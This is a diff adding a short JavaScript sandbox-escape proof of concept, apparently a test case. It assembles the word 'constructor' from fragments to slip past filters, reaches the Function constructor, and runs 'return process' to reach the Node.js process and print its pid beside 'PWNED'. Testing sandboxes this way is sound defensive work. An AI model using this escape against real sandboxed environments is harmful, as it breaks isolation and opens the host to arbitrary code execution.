@@ -1,0 +1,5 @@
+const w = ['con', 'structor'].join('');
+class C { go(f) { return f[w]; } }
+new C().go({});
+const fn = (x) => x;
+console.log('PWNED', Reflect.construct(C, []).go(fn)('return process')().pid);
